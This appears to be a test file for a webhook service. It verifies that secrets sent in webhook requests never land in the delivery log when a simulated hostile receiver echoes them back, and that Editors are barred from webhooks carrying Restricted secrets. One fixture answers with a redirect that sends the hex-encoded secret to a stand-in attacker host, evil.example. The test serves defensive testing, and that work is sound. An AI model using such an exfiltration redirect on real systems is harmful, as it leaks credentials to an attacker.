// Issue 9 item 1: a hostile webhook receiver on loopback echoes what it was sent back in every encoding it
// can think of. Nothing of a resolved value may be stored in any column of the delivery log (the response
// of a delivery that resolved a secret is withheld; the request is stored as its template), and an Editor
// can neither send a test of, list the deliveries of, nor redeliver a webhook that carries a Restricted secret.
import { readFileSync } from "node:fs";
import path from "node:path";
import { eq, sql } from "drizzle-orm";
import { afterAll, beforeEach, describe, expect, it } from "vitest";
import { closeDb, getDb } from "@/db/client";
import { auditEvents, webhookDeliveries, webhookDeliveryAttempts } from "@/db/schema";
import { createSecret } from "@/lib/dal/secrets";
import { listDeliveryAttempts } from "@/lib/dal/delivery-log";
import { createWebhook, listWebhooks } from "@/lib/dal/webhooks";
import { redeliverDelivery, sendTestDelivery } from "@/lib/jobs/webhook-delivery";
import type { TWebhookInput } from "@/lib/validation/webhooks";
import { errorOf, rowsOf, runId, tablesContaining, sentAtOnce, webhookInput } from "../support/fixtures";
import { roleTeamCast } from "../support/cast";
import { hostileForms } from "../support/hostile-forms";
import { receiverFixture } from "../support/receiver-fixture";

process.env.WEBHOOK_ALLOWED_HOSTS = "127.0.0.1";
process.env.WEBHOOK_RETRY_BASE_MS = "30";
process.env.WEBHOOK_TIMEOUT_MS = "2000";

const { owner, admin, editor, team } = roleTeamCast("wh-hostile");
const rx = receiverFixture("127.0.0.1");

/** The hostile echo: the secret-carrying header in every form above, plus the request as received. */
function hostileEcho(header: string) {
  return (req: { headers: Record<string, unknown>; body: string; url: string }, res: { setHeader: (n: string, v: string) => void; end: (b: string) => void }) => {
    const v = String(req.headers[header] ?? "");
    res.setHeader("X-Echo", Buffer.from(v).toString("base64"));
    res.end(`<html><body><pre>${JSON.stringify({ forms: hostileForms(v), body: req.body, query: req.url })}</pre></body></html>`);
  };
}

afterAll(async () => {
  await closeDb();
});

beforeEach(() => {
  rx.requests.length = 0;
});

const input = (over: Partial<TWebhookInput>) => webhookInput("hostile", rx.url(), over);
const sent = sentAtOnce;
async function secret(visibility: "masked" | "restricted") {
  // A slash (PHP escapes it), a quote, a space and a non-ASCII letter: each encoding differs from the raw.
  const value = `Hostile/${runId()}"é ${runId()}`;
  const s = await createSecret({ actor: admin.actor, teamSlug: team.slug, name: `HOSTILE_${runId().toUpperCase()}`, value, visibility });
  return { ...s, value };
}
/** A webhook, saved by the Admin, that sends secret `s` in its X-K header. */
const hookCarrying = (s: { id: string; name: string }) =>
  createWebhook({ actor: admin.actor, teamSlug: team.slug, data: input({ headers: [{ name: "X-K", value: `\${${s.name}}` }], secretIds: [s.id] }) });
/** Every column of every attempt row of the webhook, as Postgres prints the row. */
async function storedRows(webhookId: string): Promise<string[]> {
  const db = await getDb();
  const res = await db.execute(sql`select t::text as row from ${webhookDeliveryAttempts} t where t.webhook_id = ${webhookId}`);
  return rowsOf<{ row: string }>(res).map((r) => r.row);
}
function expectNoForm(stored: string[], value: string) {
  expect(stored.length).toBeGreaterThan(0);
  const text = stored.join("\n").toLowerCase();
  for (const [name, form] of Object.entries(hostileForms(value))) {
    expect(text.includes(form.toLowerCase()), `the ${name} form of the value is stored in the delivery log`).toBe(false);
  }
}

describe("a hostile receiver echoing the value in every encoding", () => {
  it.each(["masked", "restricted"] as const)("stores nothing of a %s value: response withheld, request stored as its template", async (visibility) => {
    const s = await secret(visibility);
    rx.respond(hostileEcho("x-api-key"));
    const template = {
      url: `${rx.url()}?k=\${${s.name}}&plain=1`,
      headers: [{ name: "X-Api-Key", value: `Bearer \${${s.name}}` }],
      payload: `{"text":"v=\${${s.name}}"}`,
    };
    const hook = await createWebhook({ actor: admin.actor, teamSlug: team.slug, data: input({ ...template, secretIds: [s.id] }) });
    const r = sent(await sendTestDelivery({ actor: admin.actor, teamSlug: team.slug, webhookId: hook.id }));
    expect(r.status).toBe("succeeded");
    expect(rx.requests[0]!.headers["x-api-key"]).toBe(`Bearer ${s.value}`); // the value really went out

    expectNoForm(await storedRows(hook.id), s.value);
    const [att] = await listDeliveryAttempts(admin.actor, team.slug, { webhookId: hook.id });
    expect(att).toBeDefined();
    expect(att!.statusCode).toBe(200);
    expect(att!.responseBody).toBeNull();
    expect(att!.response).toMatchObject({ withheld: true, note: "Response withheld: this delivery carried secrets." });
    expect(att!.response.headerNames).toContain("x-echo");
    expect(att!.response.bytes).toBeGreaterThan(100);
    expect(att!.durationMs).toBeGreaterThanOrEqual(0);
    // The template, with ${NAME}, never the rendered request.
    expect(att!.request.url).toBe(template.url);
    expect(att!.request.headers.find((h) => h.name === "X-Api-Key")?.value).toBe(`Bearer \${${s.name}}`);
    expect(att!.request.body).toBe(template.payload);
    // Nowhere else in the database either.
    for (const form of Object.values(hostileForms(s.value)).slice(0, 3)) expect(await tablesContaining(form)).toEqual([]);
  });

  it("a redelivery of it is withheld too", async () => {
    const s = await secret("restricted");
    rx.respond(hostileEcho("x-k"));
    const hook = await hookCarrying(s);
    const first = sent(await sendTestDelivery({ actor: admin.actor, teamSlug: team.slug, webhookId: hook.id }));
    sent(await redeliverDelivery({ actor: owner.actor, teamSlug: team.slug, deliveryId: first.deliveryId }));
    expect(rx.requests).toHaveLength(2);
    const rows = await storedRows(hook.id);
    expect(rows).toHaveLength(2);
    expectNoForm(rows, s.value);
  });

  it("a redirect's Location (receiver text) is not stored for a delivery that carried secrets", async () => {
    const s = await secret("masked");
    rx.respond((req, res) => {
      res.writeHead(302, { location: `https://evil.example/${Buffer.from(String(req.headers["x-k"])).toString("hex")}` });
      res.end();
    });
    const hook = await hookCarrying(s);
    const r = sent(await sendTestDelivery({ actor: admin.actor, teamSlug: team.slug, webhookId: hook.id }));
    expect(r.statusCode).toBe(302);
    expectNoForm(await storedRows(hook.id), s.value);
    const [att] = await listDeliveryAttempts(admin.actor, team.slug, { webhookId: hook.id });
    expect(att!.error).toBe("Redirects are not followed (HTTP 302).");
  });

  it("a webhook that resolves no secret still keeps its response (cut, redacted)", async () => {
    rx.respond((_req, res) => res.end("receiver says hello"));
    const hook = await createWebhook({ actor: admin.actor, teamSlug: team.slug, data: input({}) });
    sent(await sendTestDelivery({ actor: admin.actor, teamSlug: team.slug, webhookId: hook.id }));
    const [att] = await listDeliveryAttempts(admin.actor, team.slug, { webhookId: hook.id });
    expect(att!.responseBody).toBe("receiver says hello");
    expect(att!.response).toMatchObject({ withheld: false, note: null, bytes: 19 });
  });
});

describe("Editors and a webhook that carries a Restricted secret", () => {
  it("cannot send a test of it, list its deliveries, or redeliver one; the DTO says so", async () => {
    const s = await secret("restricted");
    rx.respond(hostileEcho("x-k"));
    const hook = await hookCarrying(s);
    const masked = await createWebhook({ actor: editor.actor, teamSlug: team.slug, data: input({}) });
    const test = await errorOf(sendTestDelivery({ actor: editor.actor, teamSlug: team.slug, webhookId: hook.id }));
    expect(test.code).toBe("forbidden");
    expect(test.message).toContain(s.name);
    expect(rx.requests).toHaveLength(0);

    const adminTest = sent(await sendTestDelivery({ actor: admin.actor, teamSlug: team.slug, webhookId: hook.id }));
    sent(await sendTestDelivery({ actor: editor.actor, teamSlug: team.slug, webhookId: masked.id }));
    // The list leaves it out; asking for it by id is refused.
    const all = await listDeliveryAttempts(editor.actor, team.slug, { limit: 500 });
    expect(all.some((a) => a.webhookId === hook.id)).toBe(false);
    expect(all.some((a) => a.webhookId === masked.id)).toBe(true);
    expect((await errorOf(listDeliveryAttempts(editor.actor, team.slug, { webhookId: hook.id }))).code).toBe("forbidden");
    expect((await listDeliveryAttempts(admin.actor, team.slug, { webhookId: hook.id })).length).toBe(1);
    expect((await errorOf(redeliverDelivery({ actor: editor.actor, teamSlug: team.slug, deliveryId: adminTest.deliveryId }))).code).toBe("forbidden");

    const { items } = await listWebhooks(editor.actor, team.slug);
    const row = items.find((w) => w.id === hook.id)!;
    expect(row).toMatchObject({ canEdit: false, canTest: false, canSeeDeliveries: false, lastDelivery: null });
    expect(items.find((w) => w.id === masked.id)).toMatchObject({ canTest: true, canSeeDeliveries: true });
  });

  it("stays hidden from Editors after the Restricted secret is unbound (the attempt carried it)", async () => {
    const s = await secret("restricted");
    rx.respond((_req, res) => res.end("ok"));
    const hook = await hookCarrying(s);
    sent(await sendTestDelivery({ actor: admin.actor, teamSlug: team.slug, webhookId: hook.id }));
    const db = await getDb();
    const { webhookSecrets, webhooks } = await import("@/db/schema");
    await db.delete(webhookSecrets).where(eq(webhookSecrets.webhookId, hook.id));
    await db.update(webhooks).set({ headers: [] }).where(eq(webhooks.id, hook.id));
    const all = await listDeliveryAttempts(editor.actor, team.slug, { limit: 500 });
    expect(all.some((a) => a.webhookId === hook.id)).toBe(false);
  });
});

describe("migration 0008: attempts stored before it", () => {
  it("withholds the stored response and the request's values of attempts that resolved a secret", async () => {
    const s = await secret("masked");
    const hook = await createWebhook({ actor: admin.actor, teamSlug: team.slug, data: input({}) });
    const plain = await createWebhook({ actor: admin.actor, teamSlug: team.slug, data: input({}) });
    const db = await getDb();
    const old = async (webhookId: string, resolved: boolean) => {
      const [d] = await db.insert(webhookDeliveries).values({ teamId: team.id, webhookId, trigger: "test", status: "succeeded", attempts: 1 }).returning({ id: webhookDeliveries.id });
      if (resolved) {
        await db.insert(auditEvents).values({
          teamId: team.id, actorLabel: "old delivery", action: "webhook.secret_resolved", targetType: "secret", targetId: s.id, targetName: s.name,
          metadata: { webhookId, deliveryId: d!.id, trigger: "test", attempt: 1 },
        });
      }
      // As the old engine stored it: the rendered request, redacted, and the receiver's echo, redacted by pattern.
      await db.insert(webhookDeliveryAttempts).values({
        deliveryId: d!.id, teamId: team.id, webhookId, attempt: 1, durationMs: 5, outcome: "succeeded", statusCode: 200,
        requestMethod: "POST", requestUrl: resolved ? `${rx.url()}?k=[REDACTED:${s.name}]` : rx.url(),
        requestHeaders: [{ name: "X-K", value: resolved ? `[REDACTED:${s.name}]` : "plain" }], requestBody: resolved ? `{"v":"[REDACTED:${s.name}]"}` : "{}",
        responseBody: resolved ? `echo ${hostileForms(s.value).htmlDecimal}` : "plain answer",
      });
    };
    await old(hook.id, true);
    await old(plain.id, false);
    const file = path.resolve(import.meta.dirname, "../../db/migrations/0008_delivery_response_withheld.sql");
    const statements = readFileSync(file, "utf8").split("--> statement-breakpoint").filter((st) => /^\s*(--[^\n]*\n\s*)*UPDATE/.test(st));
    expect(statements).toHaveLength(2);
    for (const st of statements) await db.execute(sql.raw(st));

    expectNoForm(await storedRows(hook.id), s.value);
    const [att] = await listDeliveryAttempts(admin.actor, team.slug, { webhookId: hook.id });
    expect(att!.response.withheld).toBe(true);
    expect(att!.request.url).toBe(rx.url());
    expect(att!.request.headers).toEqual([{ name: "X-K", value: "[withheld]" }]);
    const [kept] = await listDeliveryAttempts(admin.actor, team.slug, { webhookId: plain.id });
    expect(kept!.responseBody).toBe("plain answer");
  });
});
